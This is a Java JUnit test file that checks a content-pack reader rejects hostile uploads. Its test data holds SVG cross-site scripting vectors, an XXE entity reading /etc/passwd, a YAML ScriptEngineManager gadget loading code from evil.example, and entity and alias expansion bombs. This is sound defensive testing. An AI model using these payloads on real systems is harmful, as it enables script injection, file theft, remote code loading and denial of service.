package dev.michi.catalog.pack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A pack may come from anywhere: it must neither get at anything outside nor wear the portal out. */
class HostilePackTest {

    private static final String PICTURE = "pictures/card.svg";

    @TempDir
    private Path folder;

    private SamplePack pack;

    @BeforeEach
    void writeSample() {
        pack = SamplePack.in(folder);
    }

    @Test
    void symbolicLinksAreRefused(@TempDir Path outside) throws IOException {
        var secret = Files.writeString(outside.resolve("secret.csv"), "password");
        pack.delete("modules/first-steps/assets/lines.csv");
        Files.createSymbolicLink(folder.resolve("modules/first-steps/assets/lines.csv"), secret);
        Files.createSymbolicLink(folder.resolve("modules/other"), outside);
        assertThat(keys()).containsOnly("catalog.mistake.symbolic-link").hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<rect onload='alert(1)'/>",
                "<image href='https://evil.example/x.png'/>",
                "<use href='other.svg#a'/>",
                "<image href='data:image/svg+xml;base64,AA'/>",
                "<rect fill='url(https://evil.example/#a)'/>",
                "<rect style='fill:url(//evil.example)'/>",
                "<style>@import 'https://evil.example/a.css';</style>",
                "<style>rect{fill:u\\72l(https://evil.example)}</style>",
                "<style>rect{fill:url(/* */https://evil.example)}</style>",
                "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject>",
                "<animate attributeName='href' to='javascript:alert(1)'/>",
                "<set attributeName='onload' to='alert(1)'/>",
                "<a href='javascript:alert(1)'><rect/></a>",
                "<p xmlns='http://www.w3.org/1999/xhtml'>x</p>",
                "<g xml:base='https://evil.example/'/>",
                "<handler xmlns='http://www.w3.org/2001/xml-events'>x</handler><script/>",
                "<unclosed>"
            })
    void drawingsThatActOrCallHomeAreRefused(String inside) {
        pack.write(PICTURE, "<svg xmlns='http://www.w3.org/2000/svg'>\n" + inside + "</svg>");
        assertThat(mistakes()).isNotEmpty().allMatch(mistake -> mistake.file().equals(PICTURE) && mistake.line() == 2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
                "<?xml-stylesheet href='https://evil.example/a.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
                "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
                "<svg><script>alert(1)</script></svg>"
            })
    void documentsThatOnlyPretendToBeDrawingsAreRefused(String text) {
        pack.write(PICTURE, text);
        assertThat(mistakes()).isNotEmpty().allMatch(mistake -> mistake.file().equals(PICTURE));
    }

    @Test
    void entitiesThatMultiplyCostNothing() {
        var bomb = new StringBuilder("<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\">");
        for (char name = 'b'; name < 'z'; name++) {
            bomb.append("<!ENTITY ")
                    .append(name)
                    .append(" \"")
                    .append(("&" + (char) (name - 1) + ";").repeat(10))
                    .append("\">");
        }
        pack.write(PICTURE, bomb + "]><svg xmlns='http://www.w3.org/2000/svg'><text>&y;</text></svg>");
        assertTimeoutPreemptively(
                Duration.ofSeconds(5), () -> assertThat(mistakes()).isNotEmpty());
    }

    @Test
    void yamlThatMultipliesCostsNothing() {
        var bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char name = 'b'; name < 'z'; name++) {
            bomb.append("%s: &%s [%s]\n".formatted(name, name, ("*" + (char) (name - 1) + ", ").repeat(9)));
        }
        pack.write("pack.yaml", bomb.toString());
        assertTimeoutPreemptively(
                Duration.ofSeconds(5), () -> assertThat(keys()).contains("catalog.mistake.yaml"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "format: !!javax.script.ScriptEngineManager [!!java.net.URL ['https://evil.example']]",
                "? {? {? {x: y} : z} : z} : z",
                "format: &a [*a]",
                "&a {*a : b}",
                "",
                "- a",
                "a: b\n---\nc: d",
                "%TAG ! tag:evil,2000:\n---\n!x {}"
            })
    void strangeYamlIsOnlyAMistake(String text) {
        pack.write("pack.yaml", text);
        assertThat(mistakes()).isNotEmpty().allMatch(mistake -> mistake.file().equals("pack.yaml"));
    }

    @Test
    void deeplyNestedYamlIsOnlyAMistake() {
        pack.write("pack.yaml", "[".repeat(150_000));
        assertThat(keys()).contains("catalog.mistake.yaml");
    }

    @ParameterizedTest
    @ValueSource(strings = {"> ", "- ", "[", "*a _b ", "[a](", "![", "`", "==a ", "<a ", "| a "})
    void deeplyNestedMarkdownIsHarmless(String part) {
        var times = 190_000 / part.length();
        var text = part.repeat(times) + (part.startsWith("*") ? "" : "x");
        pack.replace("modules/first-steps/01-why/unit.en.md", "Read this.", text);
        assertTimeoutPreemptively(Duration.ofSeconds(20), this::mistakes);
    }

    @Test
    void emphasisWithinEmphasisWithinEmphasisIsAMistake() {
        var text = "*a _b ".repeat(10_000) + "c_ d*".repeat(10_000);
        pack.replace("modules/first-steps/01-why/unit.en.md", "Read this.", text);
        assertThat(keys()).contains("catalog.mistake.too-nested");
    }

    @Test
    void filesAreNotBelievedTheirNames() {
        pack.write("modules/first-steps/assets/map.png", "<html>");
        pack.write("modules/first-steps/assets/lines.csv", new byte[] {'P', 'K', 3, 4, 0, 0});
        assertThat(mistakes())
                .extracting(mistake -> mistake.file() + " " + mistake.key())
                .containsExactly(
                        "modules/first-steps/assets/lines.csv catalog.mistake.other-type",
                        "modules/first-steps/assets/map.png catalog.mistake.other-type");
    }

    @Test
    void picturesWithTooManyPixelsAreRefusedWithoutDecodingThem() {
        pack.writePng("modules/first-steps/assets/map.png", 8_000, 5_001);
        assertThat(keys()).containsExactly("catalog.mistake.too-many-pixels");
    }

    @Test
    void officeFilesAreLookedInto() throws IOException {
        var plain = office("[Content_Types].xml", "xl/workbook.xml");
        sheet(plain);
        assertThat(mistakes()).isEmpty();
        sheet(office("[Content_Types].xml", "word/document.xml"));
        assertThat(keys()).containsExactly("catalog.mistake.other-type");
        sheet(office("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"));
        assertThat(keys()).containsExactly("catalog.mistake.macros");
        sheet(new byte[] {'P', 'K', 3, 4});
        assertThat(keys()).containsExactly("catalog.mistake.broken-file");
    }

    private void sheet(byte[] bytes) {
        SamplePack.in(folder).write("modules/first-steps/assets/lines.xlsx", bytes);
        for (var language : List.of("ja", "en")) {
            pack.replace("modules/first-steps/01-why/unit." + language + ".md", "lines.csv", "lines.xlsx");
        }
    }

    private static byte[] office(String... names) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    @Test
    void hugeFilesAreRefusedUnread() throws IOException {
        grow("pictures/card.svg", 5_000_001);
        grow("modules/first-steps/assets/lines.csv", 50_000_001);
        grow("modules/first-steps/01-why/unit.en.md", 200_001);
        assertThat(mistakes())
                .extracting(mistake -> mistake.file() + " " + mistake.key())
                .contains(
                        "modules/first-steps/01-why/unit.en.md catalog.mistake.text-too-large",
                        "pictures/card.svg catalog.mistake.file-too-large");
        grow("pictures/large.png", 500_000_001);
        assertThat(keys()).containsExactly("catalog.mistake.pack-too-large");
    }

    private void grow(String path, long length) throws IOException {
        try (var file = new RandomAccessFile(folder.resolve(path).toFile(), "rw")) {
            file.setLength(length);
        }
    }

    @Test
    void tooManyFilesAreRefused() {
        for (int i = 0; i <= 2_000; i++) {
            pack.write("pictures/" + i + ".svg", "");
        }
        assertThat(keys()).containsExactly("catalog.mistake.too-many-files");
    }

    @Test
    void textThatIsNotUtf8IsRefused() {
        pack.write("modules/first-steps/01-why/unit.ja.md", new byte[] {(byte) 0x83, (byte) 0x65});
        assertThat(keys()).containsExactly("catalog.mistake.not-utf8");
    }

    private List<String> keys() {
        return mistakes().stream().map(Mistake::key).toList();
    }

    private List<Mistake> mistakes() {
        return PackReader.read(folder, Neighbours.NONE).mistakes();
    }
}
